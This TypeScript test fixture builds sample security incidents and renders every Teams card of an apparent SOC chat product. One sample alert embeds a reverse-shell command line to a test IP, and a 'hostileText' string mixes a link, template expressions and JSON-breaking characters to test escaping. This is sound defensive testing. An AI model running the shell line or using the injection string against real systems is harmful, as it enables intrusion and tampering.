// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what attackers write looks like templates.
import { drawRow, drawCard as drawView, type SyncFailure } from '../../../src/channels/card.ts';
import { clean } from '../../../src/channels/clean.ts';
import type { PageView } from '../../../src/channels/page-view.ts';
import type { QueryView } from '../../../src/channels/query-view.ts';
import type { RunView } from '../../../src/channels/run-view.ts';
import type { Storm } from '../../../src/channels/summary.ts';
import { drawCard } from '../../../src/channels/teams/draw-card.ts';
import { drawDialog } from '../../../src/channels/teams/draw-dialog.ts';
import { drawLog } from '../../../src/channels/teams/draw-log.ts';
import { drawPage } from '../../../src/channels/teams/draw-page.ts';
import { drawQuery } from '../../../src/channels/teams/draw-query.ts';
import { drawQuestion } from '../../../src/channels/teams/draw-question.ts';
import { drawReply } from '../../../src/channels/teams/draw-reply.ts';
import { drawRun } from '../../../src/channels/teams/draw-run.ts';
import { drawSummary } from '../../../src/channels/teams/draw-summary.ts';
import type { Card } from '../../../src/channels/teams/templates.ts';
import { drawThread } from '../../../src/channels/thread.ts';
import type { Choice, DialogView, QuestionView, ReplyView } from '../../../src/channels/views.ts';
import { commands } from '../../../src/commands/index.ts';
import type { Alert, Severity } from '../../../src/incident/alert.ts';
import { type Incident, type IncidentFact, keptDeeds } from '../../../src/incident/incident.ts';
import { adam, defenderAlert, owner, priya, sentinelIncident } from '../../incident/alerts.ts';
import { incidentAfter } from '../../incident/given.ts';
import { company, peopleOf } from '../../people/company.ts';
import { detailsOf, detailsView } from '../details.ts';
import { digestView, fullPage, pageView } from '../pages.ts';
import { everywhere, questionView, refused, toManager } from '../questions.ts';
import { incidentsOf, newIncidents, summaryView, variedIncidents } from '../storm.ts';
import {
  chartView,
  costlyView,
  entityView,
  everywhereIn,
  failures,
  faultyView,
  huntsReply,
  narrowDialog,
  queryView,
  waitingView,
} from './query-views.ts';
import {
  actDialog,
  actPage,
  failedView,
  refuseDialog,
  runEverywhereIn,
  runView,
  standingView,
} from './run-views.ts';

const shell = defenderAlert({
  severity: 'high',
  title: 'Possible reverse shell detected on vm-pay-web-01',
  tactics: ['Execution', 'Persistence'],
  workspace: 'contoso-sentinel',
  entities: [
    { kind: 'host', name: 'vm-pay-web-01', resourceId: '' },
    { kind: 'ip', address: '203.0.113.9', country: 'NL' },
    { kind: 'account', name: 'svc-pay', upn: 'svc-pay@contoso.com', oid: '' },
    { kind: 'process', name: 'bash', commandLine: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
    { kind: 'file', name: 'x.sh', directory: '/tmp' },
  ],
});
const opened = { type: 'opened', alert: shell } satisfies IncidentFact;
const acknowledged = { type: 'acknowledged', by: adam } as const;
const taken = { type: 'assigned', owner: owner(adam), by: adam } as const;
const comment = {
  type: 'commented',
  text: 'The shell came from the build agent.\nHost isolated, password changed.',
  by: priya,
} as const;
const closed = {
  type: 'closed',
  closing: { classification: 'true-positive', reason: 'suspicious-activity', comment: 'Contained.' },
  by: adam,
} as const;
const reasons = ['Crown jewel: vm-pay-web-01', 'Production: vm-pay-web-01'];
const failure: SyncFailure = { source: 'sentinel', reason: 'auth' };

/** What attackers would like a card to become. */
export const hostileText =
  '<at>SOC</at> [press](https://evil.example) **b** {{DATE(2026-01-01T00:00:00Z)}} ${1+1} "}],"actions":[';
const longText = 'Überlänge 🛡️ '.repeat(400);

const spoken = (text: string): Alert =>
  sentinelIncident({
    title: text,
    description: text,
    product: text,
    label: text,
    workspace: text,
    tactics: [text, text],
    entities: [
      { kind: 'other', type: text, name: text },
      { kind: 'url', url: text },
    ],
    portalUrl: 'https://portal.azure.com/',
  });

function storyOf(text: string): Incident {
  const by = { ...adam, name: text };
  return incidentAfter(
    { type: 'opened', alert: spoken(text) },
    { type: 'assigned', owner: owner(by), by },
    ...Array.from({ length: keptDeeds + 5 }, () => ({ type: 'commented', text, by }) as const),
  );
}

/** INC-1042 in each state that an incident can be in. */
export const incidents: Record<string, Incident> = {
  new: incidentAfter(opened),
  ...Object.fromEntries(
    (['medium', 'low', 'informational'] satisfies Severity[]).map((severity) => [
      `new, ${severity}`,
      incidentAfter({ type: 'opened', alert: { ...shell, severity } }),
    ]),
  ),
  'active, owned': incidentAfter(opened, acknowledged, taken, comment),
  'active, of nobody': incidentAfter(opened, acknowledged),
  closed: incidentAfter(opened, acknowledged, taken, comment, closed),
  reopened: incidentAfter(opened, acknowledged, taken, closed, { type: 'reopened', by: priya }),
  merged: incidentAfter(opened, { type: 'merged', into: 1001 }),
  bare: incidentAfter({ type: 'opened', alert: { ...shell, entities: [], tactics: [], portalUrl: '' } }),
  'of hostile text': storyOf(hostileText),
  'of endless text': storyOf(longText),
  'of empty text': storyOf(''),
};

export const people: Choice[] = [
  { value: adam.id, label: adam.name, description: adam.upn },
  { value: priya.id, label: priya.name, description: priya.upn },
];

function cardsOf(incident: Incident): Record<string, Card> {
  const view = drawView(incident, { reasons, failures: [] });
  const failed = drawView(incident, { reasons: [], failures: [failure] });
  const log = drawThread(incident);
  return {
    card: drawCard(view),
    'card for the presser': drawCard(view, 'Adam Keller was first.'),
    'card not synced': drawCard(failed),
    ...(log && { log: drawLog(log) }),
    ...Object.fromEntries(
      dialogsOf(incident).flatMap((dialog) => [
        [`dialog ${dialog.verb}`, drawDialog(dialog, people)],
        [`dialog ${dialog.verb} to mend`, drawDialog(dialog, people, typedInto(dialog))],
      ]),
    ),
  };
}

/** Every dialog that a command has. */
function dialogsOf(incident: Incident): DialogView[] {
  const about = `INC-1042 ${clean(incident.title, 120)}`;
  return commands
    .filter((command) => command.kind === 'change')
    .flatMap(({ verb, dialog }) =>
      dialog
        ? [
            {
              verb,
              incident: incident.id,
              version: incident.version,
              about,
              ...dialog.draw(incident, staff),
            },
          ]
        : [],
    );
}

function typedInto({ fields }: DialogView) {
  return {
    values: Object.fromEntries(fields.map(({ id }) => [id, hostileText])),
    faults: Object.fromEntries(fields.map(({ id }) => [id, `Mend this: ${hostileText}`])),
  };
}

const staff = peopleOf(Object.values(company));

const rows = Object.values(incidents)
  .map((incident) => drawRow(incident))
  .slice(0, 10);
const replies: Record<string, ReplyView> = {
  list: { kind: 'incidents', title: 'Open incidents, most important first', rows: rows.slice(0, 4), more: 2 },
  'longest list': { kind: 'incidents', title: longText.slice(0, 200), rows, more: 90 },
  'empty list': { kind: 'incidents', title: 'Nothing is open.', rows: [], more: 0 },
  details: { kind: 'details', details: detailsView() },
  'details of nothing': { kind: 'details', details: detailsView({ subjects: [], more: 0, missing: [] }) },
  'details of hostile text': { kind: 'details', details: detailsOf(hostileText) },
  'details of endless text': { kind: 'details', details: detailsOf(longText) },
  'details of empty text, the longest': { kind: 'details', details: detailsOf('') },
  hunts: huntsReply(),
  'longest hunts': {
    kind: 'hunts',
    title: longText.slice(0, 200),
    rows: Array.from({ length: 12 }, () => ({
      id: 'x'.repeat(100),
      name: longText.slice(0, 100),
      about: longText,
      tags: hostileText,
      usage: longText,
      isReady: true,
    })),
    more: 4_000,
  },
  help: {
    kind: 'lines',
    title: 'What you can say to me',
    rows: commands.map(({ usage, summary }) => ({ lead: usage, text: summary })),
  },
};

const storms: Record<string, Partial<Storm>> = {
  summary: { incidents: variedIncidents(), total: 214, counts: { high: 12, medium: 202 } },
  'summary of one': { incidents: newIncidents(1) },
  'summary of closed ones': { incidents: newIncidents(3), open: 0 },
  'summary of none that can be shown': { incidents: [] },
  'longest summary': { total: 99_999 },
  'summary of hostile text': { incidents: incidentsOf(hostileText) },
  'summary of endless text': { incidents: incidentsOf(longText) },
  'summary of empty text, the longest': { incidents: incidentsOf('') },
};

const questions: Record<string, QuestionView> = {
  question: questionView(),
  'question to a manager': questionView(toManager),
  'question that is settled': questionView({}, refused),
  'question of hostile text': questionView(everywhere(hostileText)),
  'question of endless text': questionView(everywhere(longText)),
  'question of empty text': questionView(everywhere('')),
};

const queries: Record<string, QueryView> = {
  query: queryView(),
  'query that waits': waitingView(),
  'query at fault': faultyView(),
  'query that costs': costlyView(),
  'query as a line': chartView(),
  'query as columns': chartView({ shape: 'column' }),
  'query as bars': chartView({ shape: 'bar', series: failures.series.slice(0, 1) }),
  'query as one row of columns': chartView({ shape: 'column', series: failures.series.slice(0, 1) }),
  'query as a pie': chartView({
    shape: 'pie',
    labels: ['NL', 'GB'],
    series: [{ name: '', values: [1_539, 121] }],
  }),
  'entity answer': entityView(),
  'query of hostile text': everywhereIn(hostileText),
  'longest query': everywhereIn(longText.slice(0, 1_500)),
  'query of empty text, the longest': everywhereIn(''),
};

const runs: Record<string, RunView> = {
  'run that asks': runView(),
  'run that stands': standingView(),
  'run that failed': failedView(),
  'run of hostile text': runEverywhereIn(hostileText),
  'longest run': runEverywhereIn(longText),
  'run of empty text, the longest': runEverywhereIn(''),
};

const pages: Record<string, PageView> = {
  page: pageView(),
  'page of everything': digestView(),
  'page of hostile text': fullPage(hostileText),
  'longest page': fullPage(longText),
  'page of empty text, the longest': fullPage(''),
};
const called = [adam, { ...priya, name: hostileText }].map(({ id, name }) => ({ userId: id, name }));

/** Every card that the product can draw for Teams, by what it is. */
export const everyCard: [string, Card][] = [
  ...Object.entries(incidents).flatMap(([state, incident]) =>
    Object.entries(cardsOf(incident)).map(([name, card]): [string, Card] => [`${state}: ${name}`, card]),
  ),
  ...Object.entries(storms).map(([name, storm]): [string, Card] => [name, drawSummary(summaryView(storm))]),
  ...Object.entries(questions).map(([name, view]): [string, Card] => [name, drawQuestion(view)]),
  ...Object.entries(replies).map(([name, view]): [string, Card] => [name, cardIn(view)]),
  ...Object.entries(queries).map(([name, view]): [string, Card] => [name, drawQuery(view, 'Only for you.')]),
  ['dialog of a query', drawDialog(narrowDialog(), people)],
  ...Object.entries(runs).map(([name, view]): [string, Card] => [name, drawRun(view, 'Only for you.')]),
  ...Object.entries(pages).map(([name, view]): [string, Card] => [name, drawPage(view, called)]),
  ['dialog of a run', drawDialog(refuseDialog(), people)],
  ['first page of a dialog', drawDialog(actDialog(), people)],
  ['next page of a dialog', drawDialog(actPage(), people)],
];

function cardIn(view: ReplyView): Card {
  const message = drawReply(view);
  if (!('attachments' in message)) throw new Error('The reply is text.');
  return message.attachments[0]?.content ?? {};
}
